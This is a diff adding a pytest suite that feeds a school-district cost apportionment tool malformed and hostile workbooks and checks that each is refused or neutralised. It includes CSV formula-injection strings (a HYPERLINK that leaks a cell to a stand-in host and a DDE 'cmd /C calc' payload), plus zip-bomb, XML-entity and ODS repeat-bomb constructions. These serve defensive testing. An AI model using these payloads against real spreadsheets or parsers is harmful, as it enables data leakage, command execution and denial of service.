@@ -1,0 +1,639 @@
+"""The hardening corpus (issue 8): bad inputs built from a valid job, one defect each.
+
+Every bad input must fail its job with exit 1 and the right issue code at the
+right file, sheet and cell; the job's output folder holds only issues.csv and
+ERRORS.txt; the input file is unchanged. Hostile files (bombs, entities,
+encrypted, damaged) are refused before any parser can be hurt by them. Then the
+inputs that are odd but valid — hostile names, other formats — must come out
+safe, and a run killed mid-write must leave the previous outputs intact.
+"""
+from __future__ import annotations
+
+import csv
+import datetime as dt
+import os
+import random
+import signal
+import subprocess
+import sys
+import time
+import zipfile
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import openpyxl
+import pytest
+
+from apportion.batch import run_batch
+from apportion.readers.safety import DEFAULT_LIMITS, Limits
+
+from . import corpus as C
+from .builders import write_workbook
+
+
+@dataclass
+class Bad:
+    """A bad input and the issues (code, sheet, cell) it must raise; cell "" where no cell exists."""
+
+    path: Path
+    expect: list[tuple[str, str, str]]
+    limits: Limits = DEFAULT_LIMITS
+    file: str = ""  # the file the issues must name (default: the input's own name)
+    extra: dict = field(default_factory=dict)
+
+
+CASES: dict[str, callable] = {}
+
+
+def case(fn):
+    CASES[fn.__name__] = fn
+    return fn
+
+
+def edit(name: str, change):
+    """Register a case: the valid job changed by ``change(sheets)``, which returns the expected issues."""
+    def build(tmp: Path) -> Bad:
+        sheets = C.valid_sheets()
+        expect = change(sheets)
+        return Bad(C.write(tmp / "job.xlsx", sheets), expect)
+    CASES[name] = build
+
+
+def cell(sheet, header, row, value, code):
+    """A change that puts ``value`` in one cell and expects ``code`` there."""
+    def change(s):
+        return [(code, sheet, C.set_cell(s, sheet, header, row, value))]
+    return change
+
+
+def item(name, value, code, **others):
+    def change(s):
+        for k, v in others.items():
+            C.set_item(s, k.replace("_", " "), v)
+        return [(code, "BOCES", C.set_item(s, name, value))]
+    return change
+
+
+def dropped(sheet, header, code="missing-column", cell_=None, **items):
+    def change(s):
+        for k, v in items.items():
+            C.set_item(s, k.replace("_", " "), v)
+        C.drop_column(s, sheet, header)
+        return [(code, sheet, "A1" if cell_ is None else cell_)]
+    return change
+
+
+def added(sheet, values, code, header):
+    def change(s):
+        row = C.add_row(s, sheet, values)
+        return [(code, sheet, f"{C.column_letter(C.col(s, sheet, header))}{row}")]
+    return change
+
+
+# --- structure: sheets, columns, header rows -------------------------------------------
+
+edit("missing_boces_sheet", lambda s: s.pop("BOCES") and [("missing-sheet", "BOCES", "")])
+edit("missing_districts_sheet", lambda s: s.pop("Districts") and [("missing-sheet", "Districts", "")])
+edit("missing_column_district_code", dropped("Districts", "District code"))
+edit("missing_column_district_name", dropped("Districts", "District name"))
+edit("missing_column_participation_service", dropped("Participation", "Service code"))
+edit("missing_column_staff_salary", dropped("Staff", "Salary"))
+edit("missing_column_pd_board_date", dropped("Shared PD", "Board approval date"))
+edit("missing_column_attendance_staff", dropped("PD Attendance", "Staff attending"))
+edit("missing_column_collaboration_hours", dropped("Collaboration hours", "Hours"))
+edit("header_below_row_10", lambda s: s.update(Staff=[["Staff"]] + [[None]] * 10 + s["Staff"])
+     or [("missing-header-row", "Staff", "A1")])
+edit("duplicate_column", lambda s: [row.append(row[4]) for row in s["Districts"]]
+     and [("duplicate-column", "Districts", "K1")])
+edit("boces_sheet_empty", lambda s: s.update(BOCES=[]) or [("missing-item", "BOCES", "")])
+edit("duplicate_item", lambda s: s["BOCES"].append(["Capital budget", 1])
+     or [("duplicate-item", "BOCES", f"B{len(s['BOCES'])}")])
+
+
+@case
+def merged_header(tmp):
+    """"District code" merged over A1:B1 hides the "District name" header."""
+    src = C.write(tmp / "src.xlsx")
+    path = C.with_openpyxl(src, tmp / "job.xlsx", lambda book: book["Districts"].merge_cells("A1:B1"))
+    return Bad(path, [("missing-column", "Districts", "A1")])
+
+
+@case
+def empty_workbook(tmp):
+    return Bad(write_workbook(tmp / "job.xlsx", {"Sheet1": []}),
+               [("missing-sheet", "BOCES", ""), ("missing-sheet", "Districts", "")])
+
+
+# --- number cells ------------------------------------------------------------------------
+
+edit("text_in_money", cell("Districts", "Full value", 2, "lots", "not-money"))
+edit("text_in_quantity", cell("Districts", "RWADA", 1, "many", "not-a-number"))
+edit("blank_required_cell", cell("Districts", "District name", 2, None, "missing-value"))
+edit("blank_required_item", item("Administrative budget", "  ", "missing-item"))
+edit("negative_money", cell("Services", "Budget", 1, -5, "negative-value"))
+edit("negative_units", cell("Participation", "Units", 1, -1, "negative-value"))
+edit("negative_money_in_parentheses", cell("Staff", "Salary", 1, "(72,000)", "negative-value"))
+edit("nan_text_in_money", cell("Staff", "Salary", 2, "nan", "not-money"))
+edit("inf_text_in_quantity", cell("Shared PD", "Days", 1, "inf", "not-a-number"))
+edit("minus_infinity_in_money", cell("Districts", "Tax levy", 3, "-Infinity", "not-money"))
+edit("huge_number", cell("Services", "Budget", 3, 1e300, "number-too-large"))
+edit("boolean_in_money", cell("Districts", "Full value", 1, True, "not-money"))
+edit("date_in_money", cell("Services", "Budget", 2, dt.date(2026, 7, 1), "not-money"))
+edit("fraction_of_cent_cell", cell("Services", "Budget", 2, 300_000.255, "fraction-of-cent"))
+edit("fraction_of_cent_item", item("Capital budget", 400_000.001, "fraction-of-cent"))
+edit("too_many_decimals", cell("Participation", "Units", 2, 1.0000001, "too-many-decimals"))
+edit("text_in_boces_money", item("Rent budget", "sixty thousand", "not-money"))
+
+# --- impossible ratios, percentages, pools -------------------------------------------------
+
+edit("blend_percent_150", item("Blend true value percent", 150, "blend-percent-range", Apportionment_method="blend",
+                               Blend_authority="Suffolk"))
+edit("blend_percent_text_150", item("Blend true value percent", "150%", "blend-percent-range",
+                                    Apportionment_method="blend", Blend_authority="Suffolk"))
+edit("capital_fraction_2", item("Capital aidable fraction", 2, "fraction-range"))
+edit("capital_fraction_negative", item("Capital aidable fraction", "-0.5", "not-a-number"))
+edit("negative_admin_pool", item("State aid administrative", 3_000_000, "negative-pool"))
+edit("negative_capital_pool", item("Other revenue capital", 500_000, "negative-pool"))
+edit("pd_fifteen_days", cell("Shared PD", "Days", 1, 15, "pd-too-long"))
+edit("pd_grants_credit", cell("Shared PD", "Credit or certificate", 1, "yes", "pd-credit"))
+edit("service_without_participants", lambda s: [C.set_cell(s, "Participation", "Current units", r, 0) for r in (3, 4)]
+     and [("no-participation", "Services", "C3")])
+
+# --- dates, choices, codes --------------------------------------------------------------------
+
+edit("date_text_in_table", cell("Shared PD", "Board approval date", 1, "next Tuesday", "not-a-date"))
+edit("date_as_plain_number", cell("PD Attendance", "Date", 1, 46085, "not-a-date"))
+edit("date_text_item", item("Method hearing date", "soon", "bad-item"))
+edit("bad_school_year", item("School year", "2026", "bad-school-year"))
+edit("unknown_method", item("Apportionment method", "coin toss", "bad-item"))
+edit("unknown_district_type", cell("Districts", "Type", 2, "regional", "unknown-choice"))
+edit("bad_yes_no", cell("Services", "Aidable", 1, "maybe", "not-yes-no"))
+edit("bad_email", cell("Districts", "Email", 3, "business office", "bad-email"))
+edit("bad_beds_code", cell("Districts", "District code", 5, "12-34", "bad-district-code"))
+edit("duplicate_district", cell("Districts", "District code", 3, C.CODES[0], "duplicate-code"))
+edit("duplicate_service", added("Services", {"Service code": "101", "Budget": 5}, "duplicate-code", "Service code"))
+edit("duplicate_participation", added("Participation", {"District code": C.CODES[0], "Service code": "101", "Units": 1},
+                                      "duplicate-code", "Service code"))
+edit("duplicate_contract", added("Shared PD", {"Contract": "PD-1", "Cost": 1, "Days": 1,
+                                               "Board approval date": dt.date(2026, 1, 1),
+                                               "Start date": dt.date(2026, 2, 1)}, "duplicate-code", "Contract"))
+edit("unknown_district_in_participation", cell("Participation", "District code", 1, "099999999999",
+                                               "unknown-district"))
+edit("unknown_service_in_participation", cell("Participation", "Service code", 1, "999", "unknown-service"))
+edit("unknown_service_in_staff", cell("Staff", "Service code", 2, "777", "unknown-service"))
+edit("unknown_contract", cell("PD Attendance", "Contract", 2, "PD-9", "unknown-contract"))
+edit("unknown_district_in_attendance", cell("PD Attendance", "District code", 3, "680000000000", "unknown-district"))
+edit("unknown_district_in_collaboration", cell("Collaboration hours", "District code", 3, "680000000000",
+                                               "unknown-district"))
+
+# --- every method without the column it needs ---------------------------------------------
+
+edit("true_value_without_full_value", dropped("Districts", "Full value", cell_="",
+                                              Apportionment_method="true value"))
+edit("wada_without_rwada", dropped("Districts", "RWADA", cell_=""))
+edit("enrollment_without_enrollment", dropped("Districts", "Enrollment", cell_="", Apportionment_method="enrollment"))
+edit("blend_without_full_value", dropped("Districts", "Full value", cell_="", Apportionment_method="blend",
+                                         Blend_authority="Suffolk", Blend_true_value_percent=50))
+edit("blend_without_rwada", dropped("Districts", "RWADA", cell_="", Apportionment_method="blend",
+                                    Blend_authority="Suffolk", Blend_true_value_percent=50))
+
+
+# --- cells whose value cannot be trusted -----------------------------------------------------
+
+edit("formula_without_value", cell("Districts", "Full value", 3, "=FORMULA:1+1", "formula-without-value"))
+edit("formula_without_value_item", item("Capital budget", "=FORMULA:SUM(1,2)", "formula-without-value"))
+
+
+@case
+def excel_error_cell(tmp):
+    path = C.excel_error(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", 2, "E3", "#N/A")
+    return Bad(path, [("excel-error", "Districts", "E3")])
+
+
+# --- files that are not honest workbooks ------------------------------------------------------
+
+@case
+def zero_byte_file(tmp):
+    (tmp / "job.xlsx").write_bytes(b"")
+    return Bad(tmp / "job.xlsx", [("empty-file", "", "")])
+
+
+@case
+def text_file_named_xlsx(tmp):
+    (tmp / "job.xlsx").write_text("District code,District name\n010100010000,Albany\n")
+    return Bad(tmp / "job.xlsx", [("not-a-workbook", "", "")])
+
+
+@case
+def csv_file(tmp):
+    (tmp / "job.csv").write_text("District code,District name\n010100010000,Albany\n")
+    return Bad(tmp / "job.csv", [("not-a-workbook", "", "")])
+
+
+@case
+def xlsb_file(tmp):
+    (tmp / "job.xlsb").write_bytes(C.write(tmp / "src.xlsx").read_bytes())
+    return Bad(tmp / "job.xlsb", [("not-a-workbook", "", "")])
+
+
+@case
+def garbage_xls(tmp):
+    (tmp / "job.xls").write_bytes(b"this is not a spreadsheet " * 40)
+    return Bad(tmp / "job.xls", [("unreadable-workbook", "", "")])
+
+
+@case
+def password_protected_xlsx(tmp):
+    return Bad(C.ole_file(tmp / "job.xlsx"), [("encrypted-workbook", "", "")])
+
+
+@case
+def password_protected_xlsm(tmp):
+    return Bad(C.ole_file(tmp / "job.xlsm"), [("encrypted-workbook", "", "")])
+
+
+@case
+def ole_with_impossible_header(tmp):
+    """calamine would reserve gigabytes from this 1.5 KB header and abort the process."""
+    return Bad(C.ole_file(tmp / "job.xls"), [("corrupt-workbook", "", "")])
+
+
+@case
+def truncated_zip(tmp):
+    return Bad(C.truncated(C.write(tmp / "src.xlsx"), tmp / "job.xlsx"), [("corrupt-workbook", "", "")])
+
+
+@case
+def corrupted_zip_data(tmp):
+    return Bad(C.corrupted(C.write(tmp / "src.xlsx"), tmp / "job.xlsx"), [("corrupt-workbook", "", "")])
+
+
+@case
+def damaged_sheet_xml(tmp):
+    """The zip is sound but a sheet's XML is cut short: calamine's error becomes an issue on that sheet."""
+    path = C.repack(C.write(tmp / "src.xlsx"), tmp / "job.xlsx",
+                    lambda n, d: d[: len(d) // 2] if n == "xl/worksheets/sheet2.xml" else d)
+    return Bad(path, [("unreadable-sheet", "Districts", "")])
+
+
+@case
+def zip_bomb(tmp):
+    return Bad(C.zip_bomb(tmp / "job.xlsx", 32 * 2**20), [("zip-bomb", "", "")])
+
+
+@case
+def zip_bomb_over_small_limit(tmp):
+    return Bad(C.zip_bomb(tmp / "job.xlsx", 4 * 2**20), [("zip-bomb", "", "")],
+               Limits(max_uncompressed_bytes=2**20))
+
+
+@case
+def zip_declaring_a_terabyte(tmp):
+    return Bad(C.lying_zip(tmp / "job.xlsx"), [("zip-bomb", "", "")])
+
+
+@case
+def zip_with_too_many_parts(tmp):
+    src = C.write(tmp / "src.xlsx")
+    path = C.repack(src, tmp / "job.xlsx", extra={f"junk/{i}.xml": b"<a/>" for i in range(40)})
+    return Bad(path, [("zip-bomb", "", "")], Limits(max_zip_entries=30))
+
+
+@case
+def billion_laughs(tmp):
+    path = C.with_doctype(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", "xl/worksheets/sheet2.xml", C.BILLION_LAUGHS)
+    return Bad(path, [("xml-entities", "", "")])
+
+
+@case
+def external_entity(tmp):
+    path = C.with_doctype(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", "xl/sharedStrings.xml", C.EXTERNAL_ENTITY)
+    return Bad(path, [("xml-entities", "", "")])
+
+
+@case
+def entity_in_workbook_part(tmp):
+    path = C.with_doctype(C.write(tmp / "src.xlsx"), tmp / "job.xlsx", "xl/workbook.xml", C.EXTERNAL_ENTITY)
+    return Bad(path, [("xml-entities", "", "")])
+
+
+@case
+def sheet_area_bomb(tmp):
+    """Two cells, A1 and XFD1048576: 5 KB that would ask calamine for 17 billion cells."""
+    sheets = C.valid_sheets()
+    sheets["Staff"].extend([[None]] * 1_048_570)  # rows are written lazily: only the last one is stored
+    sheets["Staff"][-1] = [None] * 16_383 + ["x"]
+    return Bad(write_workbook(tmp / "job.xlsx", sheets), [("sheet-too-large", "Staff", "")])
+
+
+@case
+def shared_strings_count_bomb(tmp):
+    import re
+    path = C.repack(C.write(tmp / "src.xlsx"), tmp / "job.xlsx",
+                    lambda n, d: re.sub(rb'uniqueCount="\d+"', b'uniqueCount="4000000000"', d)
+                    if n == "xl/sharedStrings.xml" else d)
+    return Bad(path, [("corrupt-workbook", "", "")])
+
+
+@case
+def ods_repeat_bomb(tmp):
+    path = C.write_ods(tmp / "src.ods", {"BOCES": [["Item", "Value"]], "S": [["x"]]})
+    bomb = (b'<table:table-row table:number-rows-repeated="100000"><table:table-cell '
+            b'table:number-columns-repeated="1000" office:value-type="float" office:value="1">'
+            b"<text:p>1</text:p></table:table-cell></table:table-row>")
+    path = C.repack(path, tmp / "job.ods", lambda n, d: d.replace(
+        b'<table:table-row><table:table-cell office:value-type="string"><text:p>x</text:p></table:table-cell>'
+        b"</table:table-row>", bomb) if n == "content.xml" else d)
+    return Bad(path, [("sheet-too-large", "S", "")])
+
+
+@case
+def file_over_size_limit(tmp):
+    return Bad(C.write(tmp / "job.xlsx"), [("file-too-large", "", "")], Limits(max_file_bytes=4096))
+
+
+@case
+def rows_over_limit(tmp):
+    return Bad(C.write(tmp / "job.xlsx"), [("too-many-rows", "BOCES", "")], Limits(max_rows=10))
+
+
+@case
+def cells_over_limit(tmp):
+    return Bad(C.write(tmp / "job.xlsx"), [("sheet-too-large", "Districts", "")], Limits(max_cells=40))
+
+
+@case
+def sheet_in_two_workbooks(tmp):
+    folder = tmp / "job"
+    folder.mkdir()
+    sheets = C.valid_sheets()
+    write_workbook(folder / "a-boces.xlsx", {"BOCES": sheets["BOCES"], "Districts": sheets["Districts"]})
+    write_workbook(folder / "b-districts.xlsx", {"Districts": sheets["Districts"]})
+    return Bad(folder, [("sheet-in-two-workbooks", "Districts", "")], file="job/b-districts.xlsx")
+
+
+# --- the checks common to every case ----------------------------------------------------------
+
+def _snapshot(path: Path) -> dict[str, str]:
+    files = [path] if path.is_file() else sorted(p for p in path.rglob("*") if p.is_file())
+    return {str(p): C.sha256(p) for p in files}
+
+
+@pytest.mark.parametrize("name", sorted(CASES))
+def test_bad_input_is_refused(name, tmp_path):
+    bad = CASES[name](tmp_path)
+    before = _snapshot(bad.path)
+    out = tmp_path / "out"
+    batch = run_batch([bad.path], out, jobs=1, limits=bad.limits)
+    assert batch.exit_code == 1
+    [outcome] = batch.outcomes
+    assert outcome.status == "failed", outcome.message
+    errors = [i for i in outcome.issues if i.severity == "error"]
+    found = {(i.code, i.sheet, i.cell) for i in errors}
+    for expected in bad.expect:
+        assert expected in found, (expected, sorted(found))
+    named = bad.file or bad.path.name
+    assert all(i.file for i in errors)
+    assert any(i.file == named for i in errors if (i.code, i.sheet, i.cell) in bad.expect), [i.file for i in errors]
+    # no partial output: the job's folder holds only the error report
+    folders = [p for p in out.iterdir() if not p.name.startswith(".")]
+    assert len(folders) == 1 and sorted(p.name for p in folders[0].iterdir()) == ["ERRORS.txt", "issues.csv"]
+    with open(folders[0] / "issues.csv", newline="", encoding="utf-8") as fh:
+        codes = {row["code"] for row in csv.DictReader(fh)}
+    assert {code for code, _, _ in bad.expect} <= codes
+    assert _snapshot(bad.path) == before  # the input is never touched
+
+
+def test_the_corpus_is_large_enough():
+    assert len(CASES) >= 50
+
+
+# --- odd but valid inputs ---------------------------------------------------------------------
+
+def _run_ok(path: Path, out: Path) -> Path:
+    batch = run_batch([path], out, jobs=1)
+    assert batch.exit_code == 0, [(o.status, o.message, [(i.code, i.cell) for i in o.issues if i.severity == "error"])
+                                  for o in batch.outcomes]
+    [outcome] = batch.outcomes
+    return Path(outcome.output)
+
+
+def _rows(path: Path) -> list[dict]:
+    with open(path, newline="", encoding="utf-8") as fh:
+        return list(csv.DictReader(fh))
+
+
+INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3",
+              "@SUM(1,2)"]
+
+
+@pytest.fixture(scope="module")
+def hostile_names_run(tmp_path_factory):
+    """One run with formula-injection, unsafe-path, reserved and unusual names, shared by the tests below."""
+    tmp = tmp_path_factory.mktemp("hostile")
+    sheets = C.valid_sheets()
+    names = INJECTIONS + ["../../x"]
+    for row, name in enumerate(names, start=1):
+        C.set_cell(sheets, "Districts", "District name", row, name)
+    extra = {"CON": "010701010000", "Saint Mary's / East": "010702010000", "Saint Mary's \\ East": "010703010000",
+             "\u0645\u062f\u0631\u0633\u0629 \U0001f3eb \u05d1\u05d9\u05ea": "010704010000",
+             "Bell\x07 and\x1b escape\u202e": "010705010000", "L" * 32_000: "010706010000"}
+    for name, code in extra.items():
+        C.add_row(sheets, "Districts", {"District code": code, "District name": name, "Type": "component",
+                                        "Full value": 100_000_000, "RWADA": 100, "Enrollment": 90,
+                                        "Tax levy": 2_000_000, "Budget vote": "yes"})
+    path = C.write(tmp / "hostile.xlsx", sheets)
+    return _run_ok(path, tmp / "out"), names + list(extra)
+
+
+def test_injection_neutralised_in_csv(hostile_names_run):
+    folder, _ = hostile_names_run
+    for name in ("billing.csv", "aid.csv"):
+        shown = {row["district_name"] for row in _rows(folder / name)}
+        for text in INJECTIONS:
+            assert "'" + text in shown and text not in shown, (name, text)
+    amounts = [row["amount"] for row in _rows(folder / "billing.csv")]
+    assert any(a.startswith("-") for a in amounts)  # credits stay plain negative numbers
+
+
+def test_injection_is_text_in_every_workbook(hostile_names_run):
+    folder, _ = hostile_names_run
+    seen = set()
+    for book_path in folder.rglob("*.xlsx"):
+        book = openpyxl.load_workbook(book_path)
+        for ws in book.worksheets:
+            for row in ws.iter_rows():
+                for c in row:
+                    if isinstance(c.value, str) and c.value in INJECTIONS:
+                        assert c.data_type == "s", (book_path.name, ws.title, c.coordinate)
+                        seen.add(c.value)
+                    assert c.data_type != "f" or not any(t in str(c.value) for t in ("HYPERLINK", "cmd", "SUM(1,2)"))
+    assert seen == set(INJECTIONS)
+
+
+def test_statement_file_names_are_safe_and_unique(hostile_names_run):
+    folder, names = hostile_names_run
+    statements = sorted(p for p in (folder / "districts").iterdir())
+    assert all(p.parent == folder / "districts" and p.suffix == ".xlsx" for p in statements)
+    stems = [p.stem for p in statements]
+    assert len({s.casefold() for s in stems}) == len(stems) == 11  # 10 components and the billed non-component
+    for stem in stems:
+        code, short = stem.split("_", 1)
+        assert len(code) == 12 and code.isdigit()
+        assert 0 < len(short) <= 40 and all(ch.isalnum() and ch.isascii() or ch in "-_" for ch in short)
+        assert short.casefold() not in {"con", "prn", "aux", "nul"}
+    assert not list(folder.parent.rglob("x.xlsx")) and not (folder.parent.parent / "x").exists()
+
+
+def test_unusual_unicode_kept_in_billing(hostile_names_run):
+    folder, names = hostile_names_run
+    shown = {row["district_name"] for row in _rows(folder / "billing.csv")}
+    assert "\u0645\u062f\u0631\u0633\u0629 \U0001f3eb \u05d1\u05d9\u05ea" in shown
+    assert "L" * 32_000 in shown
+
+
+def test_valid_xlsm(tmp_path):
+    path = tmp_path / "job.xlsm"
+    path.write_bytes(C.write(tmp_path / "src.xlsx").read_bytes())
+    _run_ok(path, tmp_path / "out")
+
+
+def test_valid_ods(tmp_path):
+    folder = _run_ok(C.write_ods(tmp_path / "job.ods", C.valid_sheets()), tmp_path / "out")
+    reference = _run_ok(C.write(tmp_path / "ref.xlsx"), tmp_path / "out-ref")
+    assert (folder / "billing.csv").read_bytes() == (reference / "billing.csv").read_bytes()
+
+
+def test_valid_xls(tmp_path):
+    xlwt = pytest.importorskip("xlwt")
+    book = xlwt.Workbook()
+    dates = xlwt.easyxf(num_format_str="yyyy-mm-dd")
+    for name, rows in C.valid_sheets().items():
+        ws = book.add_sheet(name)
+        for i, row in enumerate(rows):
+            for j, v in enumerate(row):
+                if isinstance(v, dt.date):
+                    ws.write(i, j, dt.datetime.combine(v, dt.time()), dates)
+                elif v is not None:
+                    ws.write(i, j, v)
+    book.save(str(tmp_path / "job.xls"))
+    folder = _run_ok(tmp_path / "job.xls", tmp_path / "out")
+    reference = _run_ok(C.write(tmp_path / "ref.xlsx"), tmp_path / "out-ref")
+    assert (folder / "billing.csv").read_bytes() == (reference / "billing.csv").read_bytes()
+
+
+def test_csv_beside_a_job_is_skipped_with_a_warning(tmp_path):
+    folder = tmp_path / "inputs"
+    folder.mkdir()
+    C.write(folder / "job.xlsx")
+    (folder / "notes.csv").write_text("a,b\n")
+    batch = run_batch([folder], tmp_path / "out", jobs=1)
+    assert batch.exit_code == 0
+    [warning] = [i for i in batch.log.issues if i.code == "skipped-file"]
+    assert warning.file.endswith("notes.csv") and "xlsx" in warning.message
+
+
+def test_header_within_first_rows_is_valid(tmp_path):
+    sheets = C.valid_sheets()
+    sheets["Participation"] = [["Participation for 2026-27"], [None], [None]] + sheets["Participation"]
+    _run_ok(C.write(tmp_path / "job.xlsx", sheets), tmp_path / "out")
+
+
+# --- determinism --------------------------------------------------------------------------------
+
+def _tree(folder: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+def test_two_runs_are_byte_identical(tmp_path):
+    path = C.write(tmp_path / "job.xlsx")
+    first = _tree(_run_ok(path, tmp_path / "one"))
+    second = _tree(_run_ok(path, tmp_path / "two"))
+    assert first == second
+
+
+def _values(book_path: Path) -> dict:
+    book = openpyxl.load_workbook(book_path)
+    return {ws.title: [[c.value for c in row] for row in ws.iter_rows()] for ws in book.worksheets}
+
+
+def test_shuffled_rows_change_no_output(tmp_path):
+    sheets = C.valid_sheets()
+    shuffled = C.valid_sheets()
+    rng = random.Random(8)
+    for name in ("Districts", "Participation", "Services", "PD Attendance"):
+        body = shuffled[name][1:]
+        rng.shuffle(body)
+        shuffled[name] = [shuffled[name][0]] + body
+    assert shuffled["Districts"] != sheets["Districts"]
+    a = _run_ok(C.write(tmp_path / "a.xlsx", sheets), tmp_path / "one")
+    b = _run_ok(C.write(tmp_path / "b.xlsx", shuffled), tmp_path / "two")
+    for name in ("billing.csv", "aid.csv"):
+        assert (a / name).read_bytes() == (b / name).read_bytes()
+    statements = sorted(p.name for p in (a / "districts").iterdir())
+    assert statements == sorted(p.name for p in (b / "districts").iterdir())
+    for name in statements:
+        assert _values(a / "districts" / name) == _values(b / "districts" / name)
+
+
+# --- a run killed mid-write -------------------------------------------------------------------------
+
+DRIVER = """
+import os, sys, time
+from pathlib import Path
+real = os.fsync
+def slow(fd):  # the writer, slowed: each file waits before it is synced
+    Path(sys.argv[3]).touch()
+    time.sleep(0.4)
+    real(fd)
+os.fsync = slow
+from apportion.batch import run_batch
+run_batch([Path(sys.argv[1])], Path(sys.argv[2]), jobs=1)
+"""
+
+
+def test_sigkill_mid_write_keeps_previous_outputs(tmp_path):
+    path = C.write(tmp_path / "job.xlsx")
+    out = tmp_path / "out"
+    folder = _run_ok(path, out)
+    previous = _tree(folder)
+    C.write(path, C.variant(Administrative_budget=2_600_000))  # the next run writes different outputs
+    started = tmp_path / "writing"
+    env = dict(os.environ, PYTHONPATH=str(Path(__file__).resolve().parents[1]))
+    child = subprocess.Popen([sys.executable, "-c", DRIVER, str(path), str(out), str(started)], env=env)
+    try:
+        deadline = time.monotonic() + 30
+        while not started.exists():
+            assert child.poll() is None and time.monotonic() < deadline, "the run never started writing"
+            time.sleep(0.02)
+        time.sleep(0.5)
+        child.send_signal(signal.SIGKILL)
+    finally:
+        child.wait(timeout=30)
+    assert child.returncode == -signal.SIGKILL
+    assert _tree(folder) == previous  # the final folder still holds the complete previous outputs
+    visible = [p.name for p in out.iterdir() if not p.name.startswith(".")]
+    assert visible == [folder.name]  # any partial files sit in a hidden temporary folder only
+    recovered = _run_ok(path, out)  # the next run recovers and replaces them
+    assert recovered == folder and _tree(folder) != previous
+    assert [p.name for p in out.iterdir()] == [folder.name]
+
+
+def test_limits_are_configurable_with_clear_messages(tmp_path):
+    path = C.write(tmp_path / "job.xlsx")
+    for limits, code, words in ((Limits(max_file_bytes=4096), "file-too-large", "4,096 bytes"),
+                                (Limits(max_rows=10), "too-many-rows", "10"),
+                                (Limits(max_cells=40), "sheet-too-large", "40 cells")):
+        batch = run_batch([path], tmp_path / code, jobs=1, write=False, limits=limits)
+        [issue] = [i for i in batch.outcomes[0].issues if i.severity == "error"]
+        assert issue.code == code and words in issue.message and issue.found
+    assert run_batch([path], tmp_path / "default", jobs=1, write=False).exit_code == 0
+
+
+def test_sheet_names_never_inflate_a_bomb(tmp_path):
+    """Finding jobs in a folder reads only the small workbook part of each file."""
+    from apportion.readers.safety import sheet_names
+    src = C.write(tmp_path / "src.xlsx")
+    bomb = C.repack(src, tmp_path / "bomb.xlsx", extra={"xl/media/huge.bin": b"\0" * (64 * 2**20)})
+    assert zipfile.ZipFile(bomb).getinfo("xl/media/huge.bin").file_size == 64 * 2**20
+    assert "BOCES" in sheet_names(bomb)
